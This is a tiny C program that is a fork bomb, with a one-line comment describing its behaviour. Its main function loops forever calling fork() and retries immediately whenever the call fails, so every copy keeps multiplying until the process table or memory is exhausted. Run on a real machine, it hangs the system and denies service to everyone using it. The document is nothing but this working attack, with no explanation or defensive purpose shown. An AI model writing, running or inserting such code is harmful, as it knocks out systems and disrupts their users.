// Doubles without end, and tries again at once when it may not.
#include <unistd.h>

int main() {
  for (;;) {
    if (fork() < 0) continue;
  }
}
